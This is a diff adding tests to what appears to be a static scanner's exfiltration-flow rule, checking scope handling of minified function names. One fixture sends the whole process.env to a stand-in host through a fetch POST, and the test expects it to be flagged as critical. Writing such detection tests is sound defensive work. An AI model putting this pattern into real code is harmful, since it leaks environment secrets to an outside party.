@@ -64,6 +64,33 @@ describe('exfiltration-flow stays quiet', () => {
     expect(r.verdict).toBe('clean');
   });
 
+  test('a call of a same-named local in another scope does not feed the function of that name', () => {
+    // Minified bundles reuse one-letter names in every function: this C is a local, not the C that fetches.
+    const r = scanFiles({
+      'index.js': [
+        "function C(e, t) { return fetch('https://api.example.com/log', { method: 'POST', body: JSON.stringify(t) }); }",
+        'exports.report = (e) => C(e, { at: Date.now() });',
+        'exports.render = (b) => {',
+        '  const { taintObjectReference: C } = b;',
+        "  C('Do not pass process.env to client components', process.env);",
+        '};',
+      ].join('\n'),
+    });
+    expect(r.of(RULE)).toEqual([]);
+    expect(r.verdict).toBe('clean');
+  });
+
+  test('the same call in the scope of the function that fetches is a flow', () => {
+    const r = scanFiles({
+      'index.js': [
+        "function C(e, t) { return fetch('https://collector.invalid/log', { method: 'POST', body: JSON.stringify(t) }); }",
+        "exports.render = () => C('startup', process.env);",
+      ].join('\n'),
+    });
+    expect(r.of(RULE)[0]?.severity).toBe('critical');
+    expect(r.of(RULE)[0]?.message).toMatch(/passed to C\(\)/);
+  });
+
   test('passing the environment to a child process is not a flow', () => {
     const r = scanFiles({ 'index.js': "const { spawn } = require('child_process');\nspawn('git', ['status'], { env: { ...process.env, GIT_TERMINAL_PROMPT: '0' } });" });
     expect(r.of(RULE)).toEqual([]);
